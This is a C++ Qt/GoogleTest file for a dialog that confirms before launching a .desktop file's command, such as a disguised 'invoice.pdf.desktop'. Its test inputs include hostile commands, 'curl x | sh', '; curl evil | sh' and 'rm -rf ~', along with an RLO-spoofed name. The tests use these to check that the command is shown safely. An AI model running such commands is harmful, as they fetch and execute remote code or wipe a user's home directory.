// SPDX-License-Identifier: GPL-3.0-or-later
#include "views/LaunchConfirmationDialog.h"

#include <QLabel>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTest>

#include <gtest/gtest.h>

#include <memory>
#include <optional>

namespace {

const QString path = QStringLiteral("/home/ann/Downloads/invoice.pdf.desktop");

struct Asked {
    std::unique_ptr<LaunchConfirmationDialog> dialog = std::make_unique<LaunchConfirmationDialog>();
    std::optional<bool> answer;
    int answers = 0;

    QDialog* ask(const QString& execLine = QStringLiteral("sh -c 'curl x | sh'")) {
        dialog->ask(path, execLine, [this](bool launch) {
            answer = launch;
            ++answers;
        });
        return dialog->openBox(path);
    }
};

QPushButton* button(QDialog* box, const QString& text) {
    for (QPushButton* candidate : box->findChildren<QPushButton*>())
        if (candidate->text() == text)
            return candidate;
    return nullptr;
}

} // namespace

TEST(LaunchConfirmationDialogTest, OnlyTheRunButtonSaysYes) {
    struct Case {
        const char* action; // a button's text, or "escape"
        bool answer;
    };
    for (const Case& c : {Case{"Run", true}, Case{"Cancel", false}, Case{"escape", false}}) {
        Asked asked;
        QDialog* box = asked.ask();
        ASSERT_TRUE(box);
        EXPECT_TRUE(box->isVisible());
        EXPECT_TRUE(box->windowFlags() & Qt::WindowStaysOnTopHint);
        EXPECT_FALSE(asked.answer) << "open() returns at once";
        EXPECT_TRUE(button(box, QStringLiteral("Cancel"))->isDefault());
        if (QByteArray(c.action) == "escape")
            QTest::keyClick(box, Qt::Key_Escape);
        else
            button(box, QString::fromLatin1(c.action))->click();
        EXPECT_EQ(asked.answer, c.answer) << c.action;
        EXPECT_EQ(asked.answers, 1);
        EXPECT_FALSE(asked.dialog->openBox(path));
    }
}

TEST(LaunchConfirmationDialogTest, NamesTheFileAndShowsTheWholeCommandAsPlainText) {
    Asked asked;
    const QString tail = QStringLiteral("; curl evil | sh");
    QDialog* box = asked.ask(QStringLiteral("<b>safe</b>\nrm -rf ~ \u202Etxt.exe") +
                             QString(5000, u'x') + tail);
    ASSERT_TRUE(box);
    const auto* question = box->findChild<QLabel*>(QStringLiteral("question"));
    ASSERT_TRUE(question);
    EXPECT_EQ(question->textFormat(), Qt::PlainText);
    EXPECT_TRUE(question->text().contains(QStringLiteral("“invoice.pdf.desktop”")));
    EXPECT_TRUE(question->text().contains(QStringLiteral("File: ") + path));
    const auto* command = box->findChild<QPlainTextEdit*>(QStringLiteral("command"));
    ASSERT_TRUE(command);
    EXPECT_TRUE(command->isReadOnly());
    const QString text = command->toPlainText();
    EXPECT_TRUE(text.startsWith(QStringLiteral("<b>safe</b>\uFFFDrm -rf ~ \uFFFDtxt.exe")));
    EXPECT_FALSE(text.contains(QChar(0x202E)));
    EXPECT_TRUE(text.endsWith(tail)) << "the end of a long command is where danger hides";
    EXPECT_LE(box->sizeHint().height(), 600) << "a long command scrolls";
}

TEST(LaunchConfirmationDialogTest, AskingAgainKeepsOneQuestionAndGoingAwayClosesItUnanswered) {
    Asked asked;
    QDialog* first = asked.ask();
    std::optional<bool> second;
    asked.dialog->ask(path, QStringLiteral("x"), [&](bool launch) { second = launch; });
    EXPECT_EQ(second, false);
    EXPECT_EQ(asked.dialog->openBox(path), first);
    button(first, QStringLiteral("Run"))->click();
    EXPECT_EQ(asked.answer, true);

    const QPointer<QDialog> box = asked.ask();
    ASSERT_TRUE(box);
    asked.dialog.reset();
    EXPECT_FALSE(box);
    QCoreApplication::processEvents();
    EXPECT_EQ(asked.answers, 1);
}
